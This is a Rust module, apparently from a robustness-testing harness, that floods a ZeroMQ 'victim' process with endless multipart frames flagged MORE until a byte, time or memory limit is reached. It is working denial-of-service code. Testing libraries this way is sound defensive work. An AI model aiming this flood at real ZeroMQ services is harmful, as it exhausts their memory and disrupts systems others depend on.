//! A message without end.

use std::io;
use std::time::{Duration, Instant};

use clap::Args;

use crate::peer::{Peer, READY_PUB, READY_SUB, Width, is_end};
use crate::process::Process;
use crate::trial::{Attack, Trial};
use crate::victim::{Bounds, Library, Role};

/// Octets that are written at once, about.
const WRITE: usize = 256 << 10;

/// How often the victim's memory is looked at.
const LOOK: Duration = Duration::from_millis(100);

/// One peer sends parts of a message that all have MORE.
#[derive(Args, Debug)]
pub(crate) struct More {
    /// Ends after so many octets.
    #[arg(long, default_value_t = 2 << 30)]
    octets: u64,
    /// Ends after so many seconds.
    #[arg(long, default_value_t = 20)]
    seconds: u64,
    /// Ends when the victim has so many octets in memory.
    #[arg(long, default_value_t = 3 << 30)]
    enough: u64,
}

impl More {
    pub(crate) fn trials(&self) -> Vec<Trial<'_>> {
        let trial = |role, part: usize, max_message_size, only| Trial {
            name: format!("parts of {part} octets without end"),
            role,
            bounds: Bounds { max_message_size, ..Bounds::default() },
            only,
            attack: Box::new(move |victim| self.attack(victim, role, part)),
        };
        vec![
            trial(Role::Sub, 1, None, None),
            trial(Role::Sub, 64 << 10, None, None),
            // To libzmq each part is a message.
            trial(Role::Sub, 64 << 10, Some(64 << 20), Some(Library::Libzmq)),
            trial(Role::Pub, 64 << 10, None, None),
        ]
    }

    fn attack(&self, victim: &Process, role: Role, part: usize) -> io::Result<Attack> {
        let ready = if role == Role::Sub { READY_PUB } else { READY_SUB };
        let mut peer = Peer::open(&victim.endpoint, Width::Wide, ready)?;
        let header = [&[3], &(part as u64).to_be_bytes()[..]].concat();
        let frame = match u8::try_from(part) {
            Ok(size) => [vec![1, size], vec![b'x'; part]].concat(),
            Err(_) => [header, vec![b'x'; part]].concat(),
        };
        let frames = frame.repeat(WRITE.div_ceil(frame.len()));

        let start = Instant::now();
        let (mut sent, mut looked) = (0, start);
        loop {
            match peer.say(&frames) {
                Ok(()) => sent += frames.len() as u64,
                Err(error) if is_end(&error) => break,
                Err(error) => return Err(error),
            }
            if sent >= self.octets || start.elapsed().as_secs() >= self.seconds {
                break;
            }
            if looked.elapsed() >= LOOK {
                looked = Instant::now();
                if victim.memory.resident()? >= self.enough {
                    break;
                }
            }
        }
        let remark = format!("{} MiB sent", sent >> 20);
        Ok(Attack { peers: vec![peer], remark, ..Attack::default() })
    }
}
